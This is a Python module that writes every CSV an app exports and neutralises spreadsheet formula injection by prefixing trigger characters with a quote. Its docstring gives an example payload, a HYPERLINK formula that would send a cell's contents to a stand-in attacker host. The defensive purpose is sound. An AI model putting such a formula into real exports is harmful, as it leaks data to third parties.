"""The one CSV writer of the app: every CSV we hand out is written through it.

A CSV is opened by a spreadsheet, and a spreadsheet runs a cell that starts with ``=``,
``+``, ``-`` or ``@`` as a formula (tab and carriage return are read past the same way).
A trade name typed by a rep as ``=HYPERLINK("http://evil.example/?"&B2,"Silva")`` would
come out live in the report finance downloads. Following OWASP's advice on CSV
injection, such a cell is written with a leading ``'``: the spreadsheet shows it as text.

What is a number stays a number, so the export still adds up: ints, Decimals and floats,
and text that is only a number as we write one (``-12.50``, ``-12,50``, ``-1.234,56``,
``+5``). A number cannot hold a formula, so leaving it alone is safe.

Use :func:`writer` wherever you would use :func:`csv.writer`; the quoting of commas,
quotes and line breaks inside a cell is the standard library's.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

__all__ = ["FORMULA_TRIGGERS", "SafeWriter", "neutralise", "writer"]

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

# Digits with '.' or ',' (decimal or thousands separators) and an optional sign and
# exponent: what a spreadsheet reads as a number, and nothing it could call.
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d[\d.,]*|[.,]\d+)(?:[eE][+-]?\d+)?")


def neutralise(value: Any) -> Any:
    """The cell as it is safe to write: numbers as they are, formula-like text with a
    leading ``'``; ``None`` as an empty cell."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return value
    text = str(value)
    # A spreadsheet skips leading spaces before it looks for the '=': so do we.
    start = text.lstrip(" ")
    if start and start[0] in FORMULA_TRIGGERS and not _PLAIN_NUMBER.fullmatch(start):
        return "'" + text
    return text


class SafeWriter:
    """A :func:`csv.writer` whose every cell goes through :func:`neutralise`."""

    def __init__(self, file, **options):
        self._writer = csv.writer(file, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)

    @property
    def dialect(self):
        return self._writer.dialect


def writer(file, **options) -> SafeWriter:
    """``csv.writer(file, **options)`` that neutralises formula cells."""
    return SafeWriter(file, **options)
